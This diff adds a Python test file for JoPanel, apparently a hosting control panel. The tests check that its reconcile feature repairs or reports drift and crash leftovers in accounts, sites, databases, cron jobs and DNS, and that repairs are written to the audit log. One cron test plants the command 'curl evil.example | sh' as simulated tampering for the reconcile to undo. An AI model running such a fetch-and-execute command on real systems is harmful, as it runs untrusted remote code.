@@ -1,0 +1,519 @@
+"""Reconcile against the fake agent: each kind of crash leftover and of drift made by hand, what
+is repaired (and audited), and what is only reported. The fake's state is edited directly to
+make the system disagree with the records, as a crash or a person at the server would."""
+
+from __future__ import annotations
+
+import asyncio
+from datetime import UTC, datetime
+from typing import Any
+
+import grpc
+from jopanel.agent.accounts.v1 import accounts_pb2 as pb
+from jopanel.agent.cron.v1 import cron_pb2 as cron_pb
+from jopanel.agent.dns.v1 import dns_pb2 as dns_pb
+from jopanel.agent.web.v1 import web_pb2 as web_pb
+
+from gateway import keys
+from gateway.app import create_app
+from gateway.config import GatewayConfig
+from gateway.db import execute, fetch_one
+from tests.gateway.conftest import Api
+
+Findings = list[dict[str, Any]]
+
+
+def _app(api: Api) -> Any:
+    return api.client.app
+
+
+async def sql(api: Api, statement: str, *args: Any) -> None:
+    await execute(_app(api)[keys.DB], statement, args)
+
+
+async def status_of(api: Api, table: str, name: str) -> str | None:
+    column = "public_id" if table == "cron_jobs" else "name"
+    if table == "accounts":
+        row = await fetch_one(
+            _app(api)[keys.DB],
+            "SELECT a.status FROM accounts a JOIN users u ON u.id = a.user_id WHERE u.name = %s",
+            (name,),
+        )
+    else:
+        row = await fetch_one(
+            _app(api)[keys.DB],
+            f"SELECT status FROM {table} WHERE {column} = %s",  # noqa: S608 - the test's own names
+            (name,),
+        )
+    return None if row is None else str(row["status"])
+
+
+def crash_left_everything_so_far(api: Api) -> None:
+    """What a gateway restart does to the reconcile: records made up to now were left by an
+    earlier process, and may be settled."""
+    _app(api)[keys.RECONCILER].started_at = datetime.now(UTC).replace(tzinfo=None)
+
+
+async def reconcile(api: Api, admin: str) -> dict[str, Any]:
+    status, report = await api.call("POST", "/api/v1/reconcile", admin)
+    assert status == 200, report
+    return dict(report)
+
+
+def found(report: dict[str, Any], resource: str, name: str) -> list[tuple[str, str]]:
+    return [
+        (f["outcome"], f["difference"])
+        for f in report["findings"]
+        if f["resource"] == resource and f["name"] == name
+    ]
+
+
+def outcomes(report: dict[str, Any], resource: str, name: str) -> list[str]:
+    return [outcome for outcome, _ in found(report, resource, name)]
+
+
+async def site(api: Api, admin: str, name: str = "alice.com", **body: Any) -> None:
+    status, reply = await api.call(
+        "POST", "/api/v1/domains", admin, json={"name": name, "account": "alice", **body}
+    )
+    assert status == 201, reply
+
+
+# --- the report and who may ask for it ----------------------------------------------------------
+
+
+async def test_a_consistent_panel_reports_nothing(api: Api, admin: str) -> None:
+    await api.create_account(admin, "alice")
+    await site(api, admin, dns_zone=True)
+    report = await reconcile(api, admin)
+    assert report["findings"] == []
+    counts = {r["resource"]: r["checked"] for r in report["resources"]}
+    assert (counts["account"], counts["domain"], counts["dns_record"]) == (1, 1, 5)
+    status, state = await api.call("GET", "/api/v1/reconcile", admin)
+    assert (status, state["running"]) == (200, False)
+    assert (state["last"]["trigger"], state["last"]["actor"]) == ("request", "admin")
+
+
+async def test_owners_may_not_reconcile(api: Api, admin: str) -> None:
+    alice = await api.owner(admin)
+    for method in ("POST", "GET"):
+        status, body = await api.call(method, "/api/v1/reconcile", alice)
+        assert status == 403, body
+    assert not any(call.startswith("List") for call in api.agent.calls)
+
+
+async def test_an_agent_that_does_not_answer_is_a_503_and_changes_nothing(
+    api: Api, admin: str
+) -> None:
+    await api.create_account(admin, "alice")
+    api.agent.fail_next = grpc.StatusCode.UNAVAILABLE
+    await sql(api, "UPDATE accounts SET status = 'pending'")
+    crash_left_everything_so_far(api)
+    status, _ = await api.call("POST", "/api/v1/reconcile", admin)
+    assert status == 503
+    assert await status_of(api, "accounts", "alice") == "pending"
+
+
+async def test_the_gateway_starts_while_the_agent_is_down_and_reconciles_later(
+    api: Api, admin: str, config: GatewayConfig
+) -> None:
+    """A second gateway on the same records, at start: its reconcile runs in the background,
+    fails while the agent does not answer, and tries again."""
+    await api.create_account(admin, "alice")
+    await sql(api, "UPDATE accounts SET status = 'pending'")
+    gone = GatewayConfig(
+        agent_socket="/nonexistent/agent.sock",
+        database=config.database,
+        auth=config.auth,
+        reconcile_at_start=True,
+    )
+    from aiohttp.test_utils import TestClient, TestServer
+
+    client: TestClient[Any, Any] = TestClient(TestServer(create_app(gone)))
+    await client.start_server()  # returns although the agent cannot be reached
+    try:
+        response = await client.post(
+            "/api/v1/auth/login", json={"username": "admin", "password": "admin-password-1"}
+        )
+        assert response.status == 200
+        reconciler = client.app[keys.RECONCILER]
+        assert reconciler.last is None
+    finally:
+        await client.close()
+    assert await status_of(api, "accounts", "alice") == "pending"
+
+
+async def test_the_reconcile_at_start_settles_what_a_crash_left(
+    api: Api, admin: str, config: GatewayConfig
+) -> None:
+    await api.create_account(admin, "alice")
+    await sql(api, "UPDATE accounts SET status = 'pending'")
+    restarted = GatewayConfig(
+        agent_socket=config.agent_socket,
+        database=config.database,
+        auth=config.auth,
+        reconcile_at_start=True,
+    )
+    from aiohttp.test_utils import TestClient, TestServer
+
+    client: TestClient[Any, Any] = TestClient(TestServer(create_app(restarted)))
+    await client.start_server()
+    try:
+        reconciler = client.app[keys.RECONCILER]
+        # The background run: wait for its report (bounded), not for a clock.
+        await asyncio.wait_for(reconciler.reported.wait(), timeout=30)
+        assert reconciler.last is not None
+        assert (reconciler.last.trigger, reconciler.last.actor) == ("start", "system")
+    finally:
+        await client.close()
+    assert await status_of(api, "accounts", "alice") == "active"
+
+
+# --- accounts ----------------------------------------------------------------------------------
+
+
+async def test_pending_account_on_the_system_becomes_active(api: Api, admin: str) -> None:
+    await api.create_account(admin, "alice")
+    await sql(api, "UPDATE accounts SET status = 'pending'")
+    crash_left_everything_so_far(api)
+    report = await reconcile(api, admin)
+    assert outcomes(report, "account", "alice") == ["repaired"]
+    assert await status_of(api, "accounts", "alice") == "active"
+
+
+async def test_pending_account_missing_from_the_system_is_rolled_back(api: Api, admin: str) -> None:
+    await api.create_account(admin, "alice")
+    await sql(api, "UPDATE accounts SET status = 'pending'")
+    del api.agent.accounts["alice"]
+    crash_left_everything_so_far(api)
+    report = await reconcile(api, admin)
+    assert outcomes(report, "account", "alice") == ["repaired"]
+    assert await status_of(api, "accounts", "alice") is None
+    assert "CreateAccount alice" not in api.agent.calls[1:]
+
+
+async def test_a_pending_record_of_a_request_under_way_is_left_alone(api: Api, admin: str) -> None:
+    """Made after this gateway started and recently: its request may still be at work."""
+    await api.create_account(admin, "alice")
+    await sql(api, "UPDATE accounts SET status = 'pending'")
+    del api.agent.accounts["alice"]
+    report = await reconcile(api, admin)
+    assert outcomes(report, "account", "alice") == ["in_progress"]
+    assert await status_of(api, "accounts", "alice") == "pending"
+
+
+async def test_deleting_account_is_finished_with_its_sites_and_zones(api: Api, admin: str) -> None:
+    await api.create_account(admin, "alice")
+    await site(api, admin, dns_zone=True)
+    await sql(api, "UPDATE accounts SET status = 'deleting'")
+    crash_left_everything_so_far(api)
+    report = await reconcile(api, admin)
+    assert outcomes(report, "account", "alice") == ["repaired"]
+    assert await status_of(api, "accounts", "alice") is None
+    assert "alice" not in api.agent.accounts
+    assert (api.web.domains, api.dns.zones) == ({}, {})
+
+
+async def test_linux_user_removed_by_hand_is_created_again(api: Api, admin: str) -> None:
+    await api.create_account(admin, "alice", shell="bash")
+    await api.call("POST", "/api/v1/accounts/alice/suspend", admin)
+    del api.agent.accounts["alice"]
+    report = await reconcile(api, admin)
+    assert outcomes(report, "account", "alice") == ["repaired"]
+    again = api.agent.accounts["alice"]
+    assert (again.shell, again.suspended) == (pb.SHELL_BASH, True)
+    assert api.agent.passwords["alice"] == ""  # locked: the panel keeps no system password
+
+
+async def test_suspension_shell_and_quota_changed_by_hand_are_applied_again(
+    api: Api, admin: str
+) -> None:
+    await api.create_account(admin, "alice")
+    api.agent.accounts["alice"].suspended = True
+    api.agent.accounts["alice"].shell = pb.SHELL_BASH
+    api.agent.accounts["alice"].disk.limit_bytes = 12345
+    report = await reconcile(api, admin)
+    assert outcomes(report, "account", "alice") == ["repaired", "repaired"]
+    account = api.agent.accounts["alice"]
+    assert (account.suspended, account.shell, account.disk.limit_bytes) == (
+        False,
+        pb.SHELL_NOLOGIN,
+        0,
+    )
+
+
+async def test_a_shell_set_outside_the_panel_is_drift(api: Api, admin: str) -> None:
+    await api.create_account(admin, "alice")
+    api.agent.accounts["alice"].shell = pb.SHELL_UNSPECIFIED
+    report = await reconcile(api, admin)
+    assert outcomes(report, "account", "alice") == ["drift"]
+    assert api.agent.accounts["alice"].shell == pb.SHELL_UNSPECIFIED
+
+
+async def test_a_linux_account_without_a_record_is_reported_and_kept(api: Api, admin: str) -> None:
+    api.agent.accounts["mallory"] = pb.Account(name="mallory", uid=2000, home="/home/mallory")
+    report = await reconcile(api, admin)
+    assert outcomes(report, "account", "mallory") == ["drift"]
+    assert "mallory" in api.agent.accounts
+    assert not any(c.startswith("DeleteAccount") for c in api.agent.calls)
+
+
+# --- websites ----------------------------------------------------------------------------------
+
+
+async def test_pending_site_is_settled_either_way(api: Api, admin: str) -> None:
+    await api.create_account(admin, "alice")
+    await site(api, admin, "served.com")
+    await site(api, admin, "lost.com")
+    await sql(api, "UPDATE domains SET status = 'pending'")
+    del api.web.domains["lost.com"]
+    crash_left_everything_so_far(api)
+    report = await reconcile(api, admin)
+    assert outcomes(report, "domain", "served.com") == ["repaired"]
+    assert outcomes(report, "domain", "lost.com") == ["repaired"]
+    assert await status_of(api, "domains", "served.com") == "active"
+    assert await status_of(api, "domains", "lost.com") is None
+    assert "lost.com" not in api.web.domains
+
+
+async def test_deleting_site_is_finished_and_its_files_kept(api: Api, admin: str) -> None:
+    await api.create_account(admin, "alice")
+    await site(api, admin)
+    await sql(api, "UPDATE domains SET status = 'deleting'")
+    crash_left_everything_so_far(api)
+    report = await reconcile(api, admin)
+    assert found(report, "domain", "alice.com") == [
+        ("repaired", "deleting: the deletion was cut short")
+    ]
+    assert await status_of(api, "domains", "alice.com") is None
+    assert api.web.domains == {}
+    assert "files stay" in next(f["action"] for f in report["findings"])
+
+
+async def test_site_configuration_deleted_by_hand_is_created_again_as_recorded(
+    api: Api, admin: str
+) -> None:
+    await api.create_account(admin, "alice")
+    backend = {"type": "redirect", "url": "https://example.org/", "code": 302}
+    await site(api, admin, aliases=["www.alice.com"], backend=backend)
+    await api.call("POST", "/api/v1/domains/alice.com/suspend", admin)
+    before = web_pb.WebDomain()
+    before.CopyFrom(api.web.domains.pop("alice.com"))
+    report = await reconcile(api, admin)
+    assert outcomes(report, "domain", "alice.com") == ["repaired"]
+    assert api.web.domains["alice.com"] == before
+
+
+async def test_aliases_backend_and_suspension_changed_by_hand_are_applied_again(
+    api: Api, admin: str
+) -> None:
+    await api.create_account(admin, "alice")
+    await site(api, admin, aliases=["www.alice.com"], backend={"type": "static"})
+    served = api.web.domains["alice.com"]
+    del served.aliases[:]
+    served.proxy.port = 8081
+    served.suspended = True
+    report = await reconcile(api, admin)
+    assert outcomes(report, "domain", "alice.com") == ["repaired", "repaired"]
+    served = api.web.domains["alice.com"]
+    assert list(served.aliases) == ["www.alice.com"]
+    assert (served.WhichOneof("backend"), served.suspended) == ("static", False)
+
+
+async def test_sites_without_record_or_of_another_account_are_drift(api: Api, admin: str) -> None:
+    await api.create_account(admin, "alice")
+    await api.create_account(admin, "bob")
+    await site(api, admin)
+    api.web.domains["alice.com"].account = "bob"
+    api.web.domains["stray.com"] = web_pb.WebDomain(name="stray.com", account="bob")
+    report = await reconcile(api, admin)
+    assert outcomes(report, "domain", "alice.com") == ["drift"]
+    assert outcomes(report, "domain", "stray.com") == ["drift"]
+    assert set(api.web.domains) == {"alice.com", "stray.com"}
+    assert api.web.domains["alice.com"].account == "bob"
+
+
+# --- databases ---------------------------------------------------------------------------------
+
+
+async def database(api: Api, admin: str, name: str) -> None:
+    status, body = await api.call(
+        "POST", "/api/v1/databases", admin, json={"name": name, "account": "alice"}
+    )
+    assert status == 201, body
+
+
+async def database_user(api: Api, admin: str, name: str, databases: list[str]) -> None:
+    status, body = await api.call(
+        "POST",
+        "/api/v1/database-users",
+        admin,
+        json={"name": name, "account": "alice", "password": "db-pass-123", "databases": databases},
+    )
+    assert status == 201, body
+
+
+async def test_databases_pending_deleting_and_missing(api: Api, admin: str) -> None:
+    await api.create_account(admin, "alice")
+    for name in ("alice_kept", "alice_lost", "alice_gone", "alice_wiped"):
+        await database(api, admin, name)
+    await sql(
+        api,
+        "UPDATE hosted_databases SET status = 'pending' WHERE name IN ('alice_kept', 'alice_lost')",
+    )
+    await sql(api, "UPDATE hosted_databases SET status = 'deleting' WHERE name = 'alice_gone'")
+    del api.databases.databases["alice_lost"]
+    del api.databases.databases["alice_wiped"]
+    api.databases.databases["alice_stray"] = "alice"
+    crash_left_everything_so_far(api)
+    report = await reconcile(api, admin)
+    for name in ("alice_kept", "alice_lost", "alice_gone", "alice_wiped"):
+        assert outcomes(report, "database", name) == ["repaired"], name
+    assert outcomes(report, "database", "alice_stray") == ["drift"]
+    assert await status_of(api, "hosted_databases", "alice_kept") == "active"
+    assert await status_of(api, "hosted_databases", "alice_lost") is None
+    assert await status_of(api, "hosted_databases", "alice_gone") is None
+    assert set(api.databases.databases) == {"alice_kept", "alice_wiped", "alice_stray"}
+
+
+async def test_database_users_grants_follow_the_records(api: Api, admin: str) -> None:
+    await api.create_account(admin, "alice")
+    await database(api, admin, "alice_shop")
+    await database(api, admin, "alice_blog")
+    await database_user(api, admin, "alice_rw", ["alice_shop"])
+    await database_user(api, admin, "alice_lost", [])
+    api.databases.grants = {("alice_rw", "alice_blog")}  # one lost, one given by hand
+    del api.databases.users["alice_lost"]
+    report = await reconcile(api, admin)
+    assert outcomes(report, "database_user", "alice_rw") == ["repaired", "repaired"]
+    assert api.databases.grants == {("alice_rw", "alice_shop")}
+    assert outcomes(report, "database_user", "alice_lost") == ["drift"]  # no password kept
+    assert "alice_lost" not in api.databases.users
+
+
+# --- cron jobs ---------------------------------------------------------------------------------
+
+
+async def job(api: Api, admin: str, command: str = "echo hi") -> str:
+    status, body = await api.call(
+        "POST",
+        "/api/v1/cron-jobs",
+        admin,
+        json={"schedule": "@daily", "command": command, "account": "alice"},
+    )
+    assert status == 201, body
+    return str(body["id"])
+
+
+async def test_cron_jobs_missing_changed_and_unknown(api: Api, admin: str) -> None:
+    await api.create_account(admin, "alice")
+    lost, changed = await job(api, admin, "echo lost"), await job(api, admin, "echo changed")
+    jobs = api.cron.jobs["alice"]
+    del jobs[lost]
+    jobs[changed].command = "curl evil.example | sh"
+    jobs["0123456789abcdef"] = cron_pb.CronJob(id="0123456789abcdef", schedule="@daily")
+    report = await reconcile(api, admin)
+    assert outcomes(report, "cron_job", lost) == ["repaired"]
+    assert outcomes(report, "cron_job", changed) == ["repaired"]
+    assert outcomes(report, "cron_job", "0123456789abcdef") == ["drift"]
+    assert (jobs[lost].command, jobs[changed].command) == ("echo lost", "echo changed")
+    assert "0123456789abcdef" in jobs
+
+
+async def test_a_crontab_removed_by_hand_is_installed_again(api: Api, admin: str) -> None:
+    await api.create_account(admin, "alice")
+    await job(api, admin)
+    api.cron.uninstalled.add("alice")
+    report = await reconcile(api, admin)
+    assert [f["difference"] for f in report["findings"]] == [
+        "the account's crontab was removed or edited outside JoPanel"
+    ]
+    assert api.cron.uninstalled == set()
+
+
+async def test_cron_jobs_pending_and_deleting(api: Api, admin: str) -> None:
+    await api.create_account(admin, "alice")
+    kept, lost, gone = await job(api, admin), await job(api, admin), await job(api, admin)
+    await sql(
+        api, "UPDATE cron_jobs SET status = 'pending' WHERE public_id IN (%s, %s)", kept, lost
+    )
+    await sql(api, "UPDATE cron_jobs SET status = 'deleting' WHERE public_id = %s", gone)
+    del api.cron.jobs["alice"][lost]
+    crash_left_everything_so_far(api)
+    report = await reconcile(api, admin)
+    assert [outcomes(report, "cron_job", j) for j in (kept, lost, gone)] == [["repaired"]] * 3
+    assert await status_of(api, "cron_jobs", kept) == "active"
+    assert await status_of(api, "cron_jobs", lost) is None
+    assert await status_of(api, "cron_jobs", gone) is None
+    assert set(api.cron.jobs["alice"]) == {kept}
+
+
+# --- DNS ---------------------------------------------------------------------------------------
+
+
+async def test_a_zone_gone_from_the_server_is_served_again_with_its_records(
+    api: Api, admin: str
+) -> None:
+    await api.create_account(admin, "alice")
+    await site(api, admin, dns_zone=True)
+    records = {r.id: r for r in api.dns.zones.pop("alice.com").records}
+    report = await reconcile(api, admin)
+    assert outcomes(report, "dns_zone", "alice.com") == ["repaired"]
+    assert {r.id: r for r in api.dns.zones["alice.com"].records} == records
+
+
+async def test_zone_records_follow_the_recorded_ones(api: Api, admin: str) -> None:
+    await api.create_account(admin, "alice")
+    await site(api, admin, dns_zone=True)
+    zone = api.dns.zones["alice.com"]
+    lost, changed = zone.records[0].id, zone.records[1].id
+    wanted = {r.id: dns_pb.DnsRecord().FromString(r.SerializeToString()) for r in zone.records}
+    del zone.records[0]
+    zone.records[0].a.address = "10.6.6.6"
+    zone.records.append(dns_pb.DnsRecord(id="feedfeedfeedfeed", name="evil", a=dns_pb.ARecord()))
+    report = await reconcile(api, admin)
+    assert outcomes(report, "dns_record", f"alice.com/{lost}") == ["repaired"]
+    assert outcomes(report, "dns_record", f"alice.com/{changed}") == ["repaired"]
+    assert outcomes(report, "dns_record", "alice.com/feedfeedfeedfeed") == ["repaired"]
+    assert {r.id: r for r in api.dns.zones["alice.com"].records} == wanted
+
+
+async def test_zones_pending_deleting_and_unknown(api: Api, admin: str) -> None:
+    await api.create_account(admin, "alice")
+    for name in ("kept.com", "lost.com", "gone.com"):
+        await site(api, admin, name, dns_zone=True)
+    await sql(api, "UPDATE dns_zones SET status = 'pending' WHERE name IN ('kept.com', 'lost.com')")
+    await sql(api, "UPDATE dns_zones SET status = 'deleting' WHERE name = 'gone.com'")
+    del api.dns.zones["lost.com"]
+    api.dns.zones["stray.com"] = dns_pb.DnsZone(name="stray.com", account="alice")
+    crash_left_everything_so_far(api)
+    report = await reconcile(api, admin)
+    for name in ("kept.com", "lost.com", "gone.com"):
+        assert outcomes(report, "dns_zone", name) == ["repaired"], name
+    assert outcomes(report, "dns_zone", "stray.com") == ["drift"]
+    assert await status_of(api, "dns_zones", "kept.com") == "active"
+    assert await status_of(api, "dns_zones", "lost.com") is None
+    assert set(api.dns.zones) == {"kept.com", "stray.com"}
+
+
+# --- the audit log -----------------------------------------------------------------------------
+
+
+async def test_every_repair_is_in_the_audit_log(api: Api, admin: str) -> None:
+    await api.create_account(admin, "alice")
+    await site(api, admin)
+    del api.agent.accounts["alice"]
+    api.web.fail_call = "CreateWebDomain alice.com"
+    api.web.domains.pop("alice.com")
+    report = await reconcile(api, admin)
+    assert outcomes(report, "account", "alice") == ["repaired"]
+    assert outcomes(report, "domain", "alice.com") == ["failed"]
+    status, log = await api.call("GET", "/api/v1/audit-log?limit=3", admin)
+    assert status == 200
+    entries = [(e["actor"], e["action"], e["target"], e["result"]) for e in log["items"]]
+    assert entries == [
+        ("admin", "reconcile.run", "request", "error"),
+        ("admin", "reconcile.domain", "alice.com", "error"),
+        ("admin", "reconcile.account", "alice", "ok"),
+    ]
+    assert "UNAVAILABLE" in log["items"][1]["detail"]
